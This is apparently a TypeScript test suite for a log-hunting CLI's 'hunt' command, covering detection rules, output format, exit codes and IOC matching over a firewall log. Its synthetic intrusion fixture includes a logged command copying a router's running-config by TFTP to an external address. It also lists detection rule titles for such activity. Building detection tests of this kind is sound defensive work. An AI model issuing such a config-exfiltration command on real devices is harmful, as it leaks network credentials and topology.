// `tidewatch hunt` end to end: shipped rules by default, the jsonl contract, exit codes, folders as input, and
// indicator matching with --iocs over the real ASA log (a reported "0 matches where ~17 were expected").
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync, copyFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { corpusPath, REPO_ROOT } from '../corpus.js';

const CLI = join(REPO_ROOT, 'dist/src/cli/main.js');
const ASA = corpusPath('syslog', 'asa__elastic-integrations__test-sample.log');

function run(args: string[], input?: string): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', cwd: tmpdir(), input });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}
function withDir<T>(fn: (dir: string) => T): T {
  const dir = mkdtempSync(join(tmpdir(), 'tw-hunt-cli-'));
  try { return fn(dir); } finally { rmSync(dir, { recursive: true, force: true }); }
}
type Rec = { time: string; rule: { id: string; title: string; level: string; tags: string[]; author: string | null }; source: { file: string; line: number }; event: Record<string, unknown>; correlation?: { group: Record<string, unknown>; events: unknown[] } };
const recs = (out: string): Rec[] => out.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Rec);

const ATTACK = [
  '<189>2360957: core-01: *Jan  6 2026 20:52:12.861 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:eve  logged command:access-list 20 permit host 45.125.67.144',
  '<189>Jan  6 2026 20:53:14 core-01 : %SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: eve] [Source: 45.125.67.144] [localport: 22022] at 20:53:14 UTC Tue Jan 6 2026',
  '<189>Jan  6 2026 20:55:40 core-01 : %SYS-5-CONFIG_I: Configured from console by eve on vty0 (45.125.67.144)',
  '<86>Jan  6 20:58:05 tacsrv tac_plus[812]: 10.1.1.2 eve tty3 45.125.67.144 stop task_id=9 service=shell cmd=copy running-config tftp://45.125.67.144/r.cfg <cr>',
  '<189>Jan  6 2026 21:00:01 core-01 : %LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet0/1, changed state to up',
].join('\n') + '\n';

test('hunt without --rules uses the shipped rules: jsonl contract, exit 1, correlation record', () => {
  const r = run(['hunt', '--format', 'jsonl', '-'], ATTACK);
  assert.equal(r.status, 1, r.stderr);
  assert.match(r.stderr, /tidewatch hunt: \d+ rules \(0 rejected\), 5 lines, 5 events/);
  const out = recs(r.stdout);
  const titles = out.map((a) => a.rule.title);
  for (const t of ['ACL entry permits an external address', 'Device login accepted on a non-standard port', 'Device login from a public address',
    'Configuration or capture file copied off the device over TFTP, FTP, SCP or HTTP', 'Login followed within minutes by a configuration change on the same device']) {
    assert.ok(titles.includes(t), `${t} in ${titles.join(' | ')}`);
  }
  for (const a of out) {
    assert.deepEqual(Object.keys(a).filter((k) => k !== 'correlation'), ['time', 'rule', 'source', 'event']);
    assert.equal(a.rule.author, 'Tidewatch');
    assert.ok(a.rule.tags.some((t) => t.startsWith('attack.t')));
    assert.equal(a.source.file, '-');
  }
  const corr = out.find((a) => a.correlation);
  assert.ok(corr);
  assert.equal(corr.source.line, 3, 'the CONFIG_I line completed it');
  assert.deepEqual(corr.correlation?.group, { host: 'core-01', user: 'eve' });
  // nothing found: exit 0
  const quiet = run(['hunt', '--format', 'jsonl', '-'], ATTACK.split('\n')[4] + '\n');
  assert.equal(quiet.status, 0, quiet.stderr);
  assert.equal(quiet.stdout, '');
});

test('hunt --iocs over the corpus ASA log finds every listed address it contains, also given the folder', () => {
  withDir((dir) => {
    // three addresses the ASA log mentions and one it does not
    const ips = ['192.168.0.89', '192.168.0.88', '10.0.0.46', '203.0.113.250'];
    const list = join(dir, 'iocs.txt');
    writeFileSync(list, `# test indicators\n${ips.join('\n')}\n`);
    // expected independently of the parsers: (line, address) pairs where the address occurs as a whole address
    const expected = new Set<string>();
    readFileSync(ASA, 'utf8').split('\n').forEach((l, i) => {
      for (const ip of ips) if (new RegExp(`(^|[^0-9.])${ip.replace(/\./g, '\\.')}($|[^0-9])`).test(l)) expected.add(`${i + 1}|${ip}`);
    });
    assert.equal(new Set([...expected].map((k) => k.split('|')[0])).size, 17, 'the log has 17 lines with these addresses');
    const check = (args: string[], file: string) => {
      const r = run(['hunt', '--format', 'jsonl', '--iocs', list, ...args]);
      assert.equal(r.status, 1, r.stderr);
      const intel = recs(r.stdout).filter((a) => a.rule.id.startsWith('indicator--'));
      const got = new Set(intel.map((a) => `${a.source.line}|${a.rule.title.split(': ').pop()}`));
      assert.deepEqual([...got].sort(), [...expected].sort());
      assert.ok(intel.every((a) => a.source.file === file));
    };
    check([ASA], ASA);
    const logs = join(dir, 'logs');
    mkdirSync(join(logs, 'fw'), { recursive: true });
    copyFileSync(ASA, join(logs, 'fw', 'asa.log'));
    check([logs], join(logs, 'fw', 'asa.log'));
  });
});

test('hunt: a missing input is an input error (exit 2) and is named', () => {
  const r = run(['hunt', '--format', 'jsonl', '/nonexistent/x.log']);
  assert.equal(r.status, 2);
  assert.match(r.stderr, /\/nonexistent\/x\.log/);
  withDir((dir) => {
    const e = run(['hunt', '--format', 'jsonl', dir]);
    assert.equal(e.status, 2);
    assert.match(e.stderr, /folder holds no files/);
  });
});
